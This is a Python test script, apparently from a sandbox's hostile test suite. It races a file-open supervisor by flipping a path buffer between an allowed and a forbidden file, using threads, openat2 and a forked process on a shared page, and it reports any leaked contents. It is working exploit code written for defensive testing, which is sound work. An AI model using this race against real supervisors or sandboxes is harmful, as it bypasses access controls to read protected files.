"""Threat: win the race between the supervisor's decision on an open and
the kernel's second read of the path. The path buffer flips between an
allowed file and a forbidden one while the program opens it over and over:

* open: a thread flips the buffer, open(2) reads it;
* openat2: the same with openat2(2) (its own decoder and emulation);
* shared: the buffer is a MAP_SHARED page and the flipper is another
  PROCESS (a fork), which holding the opener's threads does not stop.

Whatever it read that does not start as the allowed file does is printed
("leak: ..."). Usage: race_open.py open|openat2|shared ALLOWED FORBIDDEN [SECONDS]
"""

import ctypes
import mmap
import os
import signal
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _hostile import raw_syscall

DONE = 42
MAX_ITERATIONS = 200_000
SYS_OPENAT2 = 437  # the same number on every architecture
AT_FDCWD = -100

libc = ctypes.CDLL(None, use_errno=True)  # CDLL drops the GIL around each call
libc.open.restype = ctypes.c_int
libc.open.argtypes = (ctypes.c_void_p, ctypes.c_int)


class OpenHow(ctypes.Structure):
    _fields_ = (("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64))


how = OpenHow(os.O_RDONLY | os.O_CLOEXEC, 0, 0)
how_size = ctypes.c_size_t(ctypes.sizeof(how))

variant = sys.argv[1]
allowed = os.fsencode(os.path.abspath(sys.argv[2])) + b"\0"
forbidden = os.fsencode(os.path.abspath(sys.argv[3])) + b"\0"
seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
with open(allowed[:-1], "rb") as f:
    start = f.read(16)

if variant == "shared":
    page = mmap.mmap(-1, mmap.PAGESIZE)  # MAP_SHARED | MAP_ANONYMOUS: inherited by a fork
    buf = ctypes.addressof(ctypes.c_char.from_buffer(page))
else:
    keep = ctypes.create_string_buffer(4096)
    buf = ctypes.addressof(keep)
ctypes.memmove(buf, allowed, len(allowed))


def flip(stop):
    while not stop():
        ctypes.memmove(buf, forbidden, len(forbidden))
        ctypes.memmove(buf, allowed, len(allowed))


def open_buffer():
    if variant == "openat2":
        try:
            return raw_syscall(
                SYS_OPENAT2, AT_FDCWD, ctypes.c_void_p(buf), ctypes.byref(how), how_size
            )
        except OSError:
            return -1
    return libc.open(buf, os.O_RDONLY | os.O_CLOEXEC)


stopped = threading.Event()
flipper = None
if variant == "shared":
    child = os.fork()
    if child == 0:
        flip(lambda: False)  # until the parent kills it
        os._exit(0)
else:
    flipper = threading.Thread(target=flip, args=(stopped.is_set,), daemon=True)
    flipper.start()
opened = refused = leaked = iterations = 0
deadline = time.monotonic() + seconds
try:
    while time.monotonic() < deadline and iterations < MAX_ITERATIONS and leaked < 3:
        iterations += 1
        fd = open_buffer()
        if fd < 0:
            refused += 1
            continue
        try:
            data = os.read(fd, 4096)
        finally:
            os.close(fd)
        opened += 1
        if data[:16] != start:
            leaked += 1
            print("leak:", data.decode(errors="replace"), flush=True)
finally:
    stopped.set()
    if flipper is not None:
        flipper.join()
    if variant == "shared":
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
print(f"iterations: {iterations}")
print(f"opened: {opened}")
print(f"refused: {refused}")
print(f"leaked: {leaked}")
sys.exit(DONE)
